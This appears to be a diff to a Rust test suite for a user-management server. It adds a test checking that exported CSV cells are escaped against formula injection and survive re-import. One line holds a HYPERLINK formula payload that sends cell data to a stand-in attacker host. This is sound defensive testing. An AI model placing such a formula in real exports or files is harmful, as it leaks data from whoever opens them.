@@ -11,6 +11,7 @@ on_each_database!(
     a_hash_from_elsewhere_lets_in_and_is_renewed,
     an_interrupted_import_goes_on,
     what_is_written_is_read_again,
+    a_table_holds_no_formulas_and_comes_back_as_it_was,
 );
 
 /// A file in the server's folder.
@@ -145,6 +146,30 @@ async fn an_interrupted_import_goes_on(database: Database) {
     let list = server.api().get("core/groups/?name=Everybody&include_users=true").await.expect(200).json();
     assert_eq!(list["results"][0]["users"].as_array().map(Vec::len), Some(20_000));
     println!("{} accounts in {took:?}", 20_000 - part);
+}
+
+async fn a_table_holds_no_formulas_and_comes_back_as_it_was(database: Database) {
+    const FORMULA: &str = "=HYPERLINK(\"http://evil.test/?\"&A1)";
+    let names = [FORMULA, "+49 30", "-Ada", "@ada", "'=marked", "O'Neil"];
+    let server = Server::builder(database).start().await;
+    for (at, name) in names.into_iter().enumerate() {
+        let body = json!({"username": format!("user{at}"), "name": name, "attributes": {"a": "=1"}});
+        server.api().post("core/users/", &body).await.expect(201);
+    }
+    let (path, name) = file(&server, "");
+    fs::remove_file(&path).expect("gone");
+    assert_eq!(server.run(&["export-users", &name]).code, 0);
+    let table = fs::read_to_string(&path).expect("a table");
+    let cells: Vec<&str> = table.lines().flat_map(|line| line.split(',')).map(|cell| cell.trim_matches('"')).collect();
+    assert!(cells.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{table}");
+    assert!(table.contains("'=HYPERLINK") && table.contains("''=marked"), "{table}");
+    let other = Server::builder(database).start().await;
+    let told = other.run(&["import", &name, "--create-groups"]);
+    assert_eq!(told.code, 0, "{}", told.text);
+    for (at, name) in names.into_iter().enumerate() {
+        let user = other.api().only(&format!("core/users/?username=user{at}")).await;
+        assert_eq!((&user["name"], &user["attributes"]["a"]), (&json!(name), &json!("=1")));
+    }
 }
 
 async fn what_is_written_is_read_again(database: Database) {
